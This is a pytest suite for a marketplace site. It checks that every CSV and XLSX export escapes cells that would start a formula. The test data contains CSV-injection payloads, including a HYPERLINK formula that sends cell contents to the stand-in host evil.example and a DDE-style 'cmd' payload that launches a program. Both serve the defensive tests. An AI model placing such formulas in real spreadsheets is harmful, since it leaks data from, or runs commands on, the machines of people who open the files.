"""No cell of any CSV or XLSX file the site writes starts a formula (CSV injection), and
every writer of such files goes through marketplace/spreadsheets.py."""
from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from marketplace.db import db
from marketplace.models import Activity, Deal, Delivery, MatchMark
from marketplace.spreadsheets import csv_file, safe_cell, xlsx_file
from tests import report_files
from tests.factories import PASSWORD
from tests.providers.helpers import make_provider

PACKAGE = Path(__file__).resolve().parent.parent / "marketplace"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\0")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


@pytest.mark.parametrize("text", [FORMULA, "+41 1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\tx", "\rx", "\0x"])
def test_text_that_starts_a_formula_is_neutralised(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-12.5, -3, 0, 2.75, None, True, date(2026, 3, 1), "Slag, 3 - 5 mm", "'=x"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_negative_numbers_stay_numbers_in_both_formats():
    rows = list(csv.reader(io.StringIO(csv_file(["t"], [[-12.5], ["-12.5"]]).decode("utf-8-sig"))))
    assert rows == [["t"], ["-12.5"], ["'-12.5"]]
    sheet = load_workbook(io.BytesIO(xlsx_file({"s": (["t"], [[-12.5], [FORMULA]])}))).active
    assert sheet["A2"].value == -12.5 and sheet["A2"].data_type == "n"
    assert sheet["A3"].value == "'" + FORMULA and sheet["A3"].data_type == "s"


def test_every_field_of_a_csv_is_quoted():
    """A ';' inside a cell cannot start a new cell for a spreadsheet whose separator it is."""
    text = csv_file(["title"], [["Kuona;=1+1"]]).decode("utf-8-sig")
    assert text.splitlines() == ['"title"', '"Kuona;=1+1"']


def test_only_the_one_module_writes_spreadsheets():
    writers = re.compile(r"csv\.writer|csv\.DictWriter|Workbook\(|xlsxwriter|odf")
    offenders = [str(path.relative_to(PACKAGE)) for path in PACKAGE.rglob("*.py")
                 if path.name != "spreadsheets.py" and writers.search(path.read_text(encoding="utf-8"))]
    assert offenders == []


@pytest.fixture
def hostile(app, make):
    """A world in which every text that reaches an export starts a formula."""
    supplier = make.organisation(name="@Kuona Oy")
    buyer = make.organisation(name="+Maanrakennus Oy", place="Kittilä", lat=67.65, lon=24.91)
    broker = make.user(None, role="broker", email="broker@example.fi")
    stream = make.stream(supplier, title=FORMULA, description="-2+3+cmd|' /C calc'!A0", values={"CaO": 40.0})
    need = make.need(buyer, title=FORMULA)
    make_provider(make, buyer)
    with app.app_context():
        deal = Deal(side_stream_id=stream.id, need_id=need.id, supplier_id=supplier.id, buyer_id=buyer.id,
                    broker_id=broker.id, state="delivering", title=FORMULA, category="slag",
                    application="geopolymer_binder", place="=Tornio", price_eur_per_t=-4.0)
        deal.deliveries.append(Delivery(delivered_on=date(2026, 3, 2), tonnes=30.0))
        db.session.add_all([deal, MatchMark(side_stream_id=stream.id, need_id=need.id, good=False,
                                            reason=FORMULA, broker_id=broker.id),
                            Activity(title_fi=FORMULA, title_en=FORMULA, kind="event",
                                     starts_on=date(2026, 5, 1), place="Rovaniemi")])
        db.session.commit()
        db.session.remove()
    client = app.test_client()
    assert client.post("/auth/login", data={"email": broker.email, "password": PASSWORD}).status_code == 302
    return client


def _csv_cells(body: bytes):
    for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))):
        yield from row


def _xlsx_cells(body: bytes):
    for sheet in load_workbook(io.BytesIO(body)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    yield cell.value


EXPORTS = [
    "report:impact:csv", "report:impact:xlsx", "/dashboard/marks/csv",
    "/streams/export.csv", "/streams/export.xlsx", "/needs/export.csv", "/needs/export.xlsx",
    "/providers/export.csv", "report:evaluation:csv:2026", "report:evaluation:xlsx:2026",
    "/listings/import/template-side_streams.csv", "/listings/import/template-needs.xlsx",
]


@pytest.mark.parametrize("url", EXPORTS)
def test_no_export_lets_a_typed_text_start_a_formula(hostile, url):
    if url.startswith("report:"):  # a report file, built by a job of the queue
        _, kind, fmt, *year = url.split(":")
        response = report_files.fetch(hostile, kind, fmt, year[0] if year else None)
        url = f"{url}.{fmt}"
    else:
        response = hostile.get(url)
    assert response.status_code == 200, url
    cells = list(_xlsx_cells(response.data) if url.endswith(".xlsx") else _csv_cells(response.data))
    assert cells
    # a number written by the site (a negative trade value) is a number, not a formula
    started = [cell for cell in cells if cell.startswith(DANGEROUS) and not NUMBER.fullmatch(cell)]
    assert started == []
    if "template" not in url and "providers" not in url:
        assert "'" + FORMULA in cells, "the hostile text is exported, escaped"
